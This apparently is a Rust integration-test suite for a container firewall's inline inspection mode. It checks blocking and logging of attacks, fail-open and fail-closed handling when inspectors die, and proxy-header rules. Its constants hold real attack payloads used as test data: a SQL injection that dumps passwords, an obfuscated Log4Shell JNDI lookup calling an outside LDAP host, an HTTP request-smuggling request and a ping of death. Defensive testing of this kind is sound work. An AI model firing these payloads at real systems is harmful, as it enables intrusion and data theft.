//! Packets of pods in Protect wait for inspection: attacks are stopped before they arrive, over IPv4 and IPv6, and what
//! becomes of packets without an inspector is the group's to say.

use std::net::IpAddr;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use nv_lab::{Output, Pod};
use nv_scene::{CLIENT_GROUP, ECHO_GROUP, Scene};
use reqwest::Method;
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};

const INJECTION: &str = "/items?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20";
const LOOKUP: &str = "X-Api-Version: ${${lower:j}ndi:${::-l}dap://198.51.100.7/a}";
/// Two servers would end it at different bytes.
const SMUGGLED: &str = r"POST /items HTTP/1.1\r\nHost: shop\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
const ATTACKS: [&str; 3] = ["SQL.Injection", "Log4Shell.Remote.Code.Execution", "HTTP.Request.Smuggling"];

fn address(pod: &Pod, six: bool) -> Result<IpAddr> {
    if six { pod.ipv6() } else { pod.ipv4() }.context("the pod has no such address")
}

/// As a part of a URL.
fn host(address: IpAddr) -> String {
    if address.is_ipv6() { format!("[{address}]") } else { address.to_string() }
}

fn text<'a>(value: &'a Value, key: &str) -> &'a str {
    value.get(key).and_then(Value::as_str).unwrap_or_default()
}

/// Modes of the network alone: programs are not what these tests are about.
async fn set_mode(scene: &Scene, mode: &str, fail_mode: &str) -> Result<()> {
    let services = ["web.shop", "echo.shop", "client.shop"];
    let config = json!({"config": {"services": services, "policy_mode": mode, "fail_mode": fail_mode}});
    scene.api.patch("/v1/service/config", &config).await?;
    scene.wait_mode(mode).await
}

async fn get(scene: &Scene, six: bool, path: &str, header: Option<&str>) -> Result<Output> {
    let url = format!("http://{}{path}", host(address(&scene.web, six)?));
    let mut command = vec!["/bin/timeout", "3", "/bin/wget", "-q", "-O", "-"];
    command.extend(header.iter().flat_map(|header| ["--header", header]));
    command.push(&url);
    scene.run(&command).await
}

/// What each of the attacks is answered with: empty when it is cut off.
async fn attack(scene: &Scene, six: bool) -> Result<[String; 3]> {
    let said = |output: Output| format!("{}{}", output.stdout, output.stderr);
    let injected = said(get(scene, six, INJECTION, None).await?);
    let looked_up = said(get(scene, six, "/index.html", Some(LOOKUP)).await?);
    let server = address(&scene.web, six)?;
    let smuggle = format!("printf '{SMUGGLED}' | nc -w 3 {server} 80 2>&1");
    let smuggled = said(scene.run(&["/bin/sh", "-c", &smuggle]).await?);
    Ok([injected, looked_up, smuggled])
}

/// Whether an echo of so many bytes is answered.
async fn ping(scene: &Scene, six: bool, bytes: &str) -> Result<bool> {
    let server = address(&scene.web, six)?.to_string();
    let family = if six { "-6" } else { "-4" };
    let output = scene.run(&["/bin/ping", family, "-c", "1", "-W", "2", "-s", bytes, &server]).await?;
    Ok(output.exit_code == 0)
}

/// An echo that is an attack by its length.
const DEADLY: &str = "40000";

/// The newest record of an attack by the client on the server that was dealt with so.
fn threat(answer: &Value, name: &str, action: &str, server: IpAddr) -> Option<Value> {
    let threats = answer.get("threats")?.as_array()?;
    threats
        .iter()
        .find(|record| {
            text(record, "name") == name
                && text(record, "action") == action
                && text(record, "client_workload_service") == CLIENT_GROUP
                && text(record, "server_ip") == server.to_string()
                && text(record, "mechanism") == if action == "deny" { "detour" } else { "" }
        })
        .cloned()
}

async fn told(scene: &Scene, name: &str, action: &str, server: IpAddr) -> Result<()> {
    scene
        .api
        .wait_for("/v1/log/threat", Duration::from_secs(10), |answer| threat(answer, name, action, server))
        .await
        .with_context(|| format!("{name} on {server} is not told with {action}"))
        .map(drop)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_stopped_in_protect_and_reported_in_monitor_in_both_families() -> Result<()> {
    let scene = Scene::start("inline").await?;
    scene.operate().await?;
    scene.wait_learned().await?;

    set_mode(&scene, "Monitor", "open").await?;
    for six in [false, true] {
        let [injected, looked_up, smuggled] = attack(&scene, six).await?;
        ensure!(injected.contains("404"), "the injection: {injected}");
        ensure!(looked_up.contains("shop"), "the lookup: {looked_up}");
        ensure!(smuggled.contains("HTTP/1."), "the smuggled request: {smuggled}");
        ensure!(ping(&scene, six, DEADLY).await?, "a long echo is not answered");
        for name in ATTACKS.into_iter().chain(["Ping.Death"]) {
            told(&scene, name, "alert", address(&scene.web, six)?).await?;
        }
    }

    set_mode(&scene, "Protect", "open").await?;
    scene.wait_queues(3).await?;
    for six in [false, true] {
        let ordinary = get(&scene, six, "/index.html", None).await?;
        ensure!(ordinary.exit_code == 0 && ordinary.stdout.contains("shop"), "{}", ordinary.stderr);
        let [injected, looked_up, smuggled] = attack(&scene, six).await?;
        for answer in [&injected, &looked_up] {
            ensure!(answer.contains("reset"), "the attacker was not cut off: {answer}");
        }
        ensure!(!smuggled.contains("HTTP/1."), "the smuggled request: {smuggled}");
        ensure!(ping(&scene, six, "56").await?, "an ordinary echo is not answered");
        ensure!(!ping(&scene, six, DEADLY).await?, "a deadly ping arrives");
        for name in ATTACKS.into_iter().chain(["Ping.Death"]) {
            told(&scene, name, "deny", address(&scene.web, six)?).await?;
        }
        let again = get(&scene, six, "/index.html", None).await?;
        ensure!(again.exit_code == 0, "whoever attacks is not shut out: {}", again.stderr);
    }

    set_mode(&scene, "Monitor", "open").await?;
    scene.wait_queues(0).await?;
    let [injected, ..] = attack(&scene, false).await?;
    ensure!(injected.contains("404"), "the injection: {injected}");
    scene.stop().await
}

/// The processes of the inspectors.
fn inspectors(launcher: u32) -> Vec<Pid> {
    let is_inspector = |pid: &u32| {
        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        line.split(|byte| *byte == 0).any(|word| word == b"inspector")
    };
    let pids = nv_product::children(launcher).into_iter().filter(is_inspector);
    pids.filter_map(|pid| Pid::from_raw(pid.cast_signed())).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_an_inspector_traffic_goes_on_or_does_not_as_the_group_says() -> Result<()> {
    let scene = Scene::start("inline-fault").await?;
    scene.operate().await?;
    scene.wait_learned().await?;
    let launcher = scene.product.children().first().copied().context("no launcher")?;
    let process = Pid::from_raw(launcher.cast_signed()).context("no launcher")?;
    for (fail_mode, passes) in [("open", true), ("closed", false)] {
        set_mode(&scene, "Protect", fail_mode).await?;
        scene.wait_queues(3).await?;
        for signal in [Signal::STOP, Signal::KILL] {
            let before = get(&scene, false, "/index.html", None).await?;
            ensure!(before.exit_code == 0, "{fail_mode}: {}", before.stderr);
            let all = inspectors(launcher);
            ensure!(!all.is_empty(), "no inspector");
            // Nobody starts another one for the moment.
            kill_process(process, Signal::STOP)?;
            all.iter().try_for_each(|one| kill_process(*one, signal))?;
            tokio::time::sleep(Duration::from_secs(1)).await;
            for six in [false, true] {
                let without = get(&scene, six, "/index.html", None).await?;
                ensure!(
                    (without.exit_code == 0) == passes,
                    "{fail_mode}, {signal:?}: {} {}",
                    without.exit_code,
                    without.stderr
                );
            }
            kill_process(process, Signal::CONT)?;
            if signal == Signal::STOP {
                all.iter().try_for_each(|one| kill_process(*one, Signal::CONT))?;
            }
            let start = Instant::now();
            while get(&scene, false, INJECTION, None).await?.stderr.contains("404")
                || get(&scene, false, "/index.html", None).await?.exit_code != 0
            {
                ensure!(start.elapsed() < Duration::from_secs(40), "{fail_mode}: inspection is not back");
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
    set_mode(&scene, "Discover", "open").await?;
    scene.wait_queues(0).await?;
    scene.stop().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connection_of_which_nothing_more_is_to_be_known_waits_no_more() -> Result<()> {
    let scene = Scene::start("inline-clean").await?;
    scene.operate().await?;
    scene.wait_learned().await?;
    set_mode(&scene, "Protect", "closed").await?;
    scene.wait_queues(3).await?;
    let echo = format!("{}:7", scene.echo_address()?);
    let before = scene.counter("inspection.queue_packets").await?;
    let output = scene.run(&["/bin/attacker", "talk", &echo, "1500"]).await?;
    ensure!(output.exit_code == 0, "{}", output.stderr);
    let limit = Duration::from_secs(10);
    scene.wait_counter("inspection.queue_packets", limit, |packets| packets > before + 2).await?;
    // Inspectors tell their counts once a second: by then all have.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let asked = scene.counter("inspection.queue_packets").await?.saturating_sub(before);
    ensure!(asked < 300, "{asked} packets of 1,500 questions and answers waited");
    ensure!(scene.counter("inspection.queue_clean").await? > 0, "no connection is clean");
    scene.stop().await
}

/// What the echo server answers to a text, if it does.
async fn say(scene: &Scene, six: bool, text: &str) -> Result<String> {
    let server = address(&scene.echo, six)?;
    let command = format!("printf '{text}' | timeout 4 nc -w 1 {server} 7 2>/dev/null");
    Ok(scene.run(&["/bin/sh", "-c", &command]).await?.stdout)
}

/// Clients behind the proxy, which the client's pod is: an address that may ask, and one that may not.
const FRIENDS: [&str; 2] = ["203.0.113.10", "2001:db8::10"];
const BANNED: [&str; 2] = ["203.0.113.66", "2001:db8::66"];

/// Asks as the proxy of `client`, who claims to be `forged`. Whether it is answered.
async fn forward(scene: &Scene, six: bool, forged: &str, client: &str) -> Result<bool> {
    let http =
        format!(r"GET /index.html HTTP/1.1\r\nHost: shop\r\nX-Forwarded-For: {forged}, {client}\r\n\r\n");
    Ok(say(scene, six, &http).await?.contains("GET /index.html"))
}

/// Who asks through a trusted proxy is told, or cut, by the entry that the proxy has written.
async fn forwarded(scene: &Scene, mode: &str, stopped: bool) -> Result<()> {
    for six in [false, true] {
        let of = |[four, sixth]: [&'static str; 2]| if six { sixth } else { four };
        let (friend, banned) = (of(FRIENDS), of(BANNED));
        ensure!(forward(scene, six, banned, friend).await?, "{mode}: {friend} is stopped by what it claims");
        ensure!(forward(scene, six, friend, banned).await? != stopped, "{mode}: {banned}, {stopped}");
        let action = if stopped { "deny" } else { "violate" };
        let told = |answer: &Value| {
            let records = answer.get("violations")?.as_array()?;
            // Of the other nothing is told.
            records.iter().all(|record| text(record, "client_ip") != friend).then_some(())?;
            let is_it = |record: &&Value| {
                text(record, "client_ip") == banned
                    && text(record, "server_service") == ECHO_GROUP
                    && text(record, "policy_action") == action
                    && record.get("xff") == Some(&json!(true))
            };
            records.iter().find(is_it).map(drop)
        };
        scene
            .api
            .wait_for("/v1/log/violation", Duration::from_secs(15), told)
            .await
            .with_context(|| format!("{mode}: {banned} is not told with {action}"))?;
    }
    Ok(())
}

/// Inspection counts who asks whom.
async fn metered(scene: &Scene) -> Result<()> {
    let listed = scene.api.get("/v1/enforcer").await?;
    let id = listed.pointer("/enforcers/0/id").and_then(Value::as_str).context("no enforcer")?.to_owned();
    let asked = |answer: &Value| {
        let meters = answer.get("meters")?.as_array()?;
        let is_it = |meter: &&Value| {
            text(meter, "type") == "syn_flood"
                && !text(meter, "workload_id").is_empty()
                && meter.get("upper_limit") == Some(&json!(800))
        };
        meters.iter().find(is_it).map(drop)
    };
    let path = format!("/v1/meter?f_enforcer={id}");
    scene.api.wait_for(&path, Duration::from_secs(5), asked).await.context("nothing is metered").map(drop)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_application_than_the_allowed_one_and_another_client_behind_a_proxy_are_cut_in_protect()
-> Result<()> {
    let http = r"GET /index.html HTTP/1.1\r\nHost: shop\r\n\r\n";
    let redis = r"*2\r\n$3\r\nGET\r\n$6\r\nbasket\r\n";
    let scene = Scene::start("inline-apps").await?;
    scene.operate().await?;
    scene.wait_learned().await?;
    set_mode(&scene, "Monitor", "open").await?;
    // Before what was learned, which is any application.
    let rule = |applications: &str, action: &str| {
        json!({
            "id": 0, "from": CLIENT_GROUP, "to": ECHO_GROUP, "ports": "tcp/7", "applications": [applications],
            "action": action, "comment": "", "learned": false, "disable": false,
        })
    };
    let behind = |from: &str, action: &str| {
        json!({
            "id": 0, "from": from, "to": ECHO_GROUP, "ports": "any", "applications": ["any"],
            "action": action, "comment": "", "learned": false, "disable": false,
        })
    };
    // A group and a rule for each of them, so that each is told of its own.
    let clients = [FRIENDS, BANNED].concat();
    for (at, address) in clients.iter().enumerate() {
        let criteria = json!([{"key": "address", "op": "=", "value": address}]);
        let group = json!({"config": {"name": format!("behind-{at}"), "criteria": criteria}});
        let (status, answer) = scene.api.call(Method::POST, "/v1/group", Some(&group)).await?;
        ensure!(status.is_success(), "{answer}");
    }
    let trusted = json!({"config": {"xff_enabled": true, "xff_trusted_hops": 1}});
    scene.api.patch("/v1/system/config", &trusted).await?;
    let rules = [
        rule("HTTP", "allow"),
        rule("any", "deny"),
        behind("behind-0", "allow"),
        behind("behind-1", "allow"),
        behind("behind-2", "deny"),
        behind("behind-3", "deny"),
    ];
    scene.api.patch("/v1/policy/rule", &json!({"rules": rules})).await?;
    for (mode, stopped) in [("Monitor", false), ("Protect", true)] {
        set_mode(&scene, mode, "open").await?;
        scene.wait_queues(if stopped { 3 } else { 0 }).await?;
        for six in [false, true] {
            let answer = say(&scene, six, http).await?;
            ensure!(
                answer.contains("GET /index.html"),
                "{mode}: the allowed application is stopped: {answer}"
            );
            let answer = say(&scene, six, redis).await?;
            ensure!(answer.contains("basket") != stopped, "{mode}: {answer}");
        }
        // Of both families one record tells: they are the same pods and the same rule.
        let (action, mechanism) = if stopped { ("deny", "detour") } else { ("violate", "") };
        scene
            .api
            .wait_for("/v1/log/violation", Duration::from_secs(15), |answer| {
                let records = answer.get("violations")?.as_array()?;
                let is_it = |record: &&Value| {
                    text(record, "server_service") == ECHO_GROUP
                        && text(record, "policy_action") == action
                        && text(record, "mechanism") == mechanism
                        && record.get("applications").is_some_and(|known| *known == json!(["Redis"]))
                };
                records.iter().find(is_it).map(drop)
            })
            .await
            .with_context(|| format!("{mode}: no violation"))?;
        forwarded(&scene, mode, stopped).await?;
    }
    metered(&scene).await?;
    scene.stop().await
}
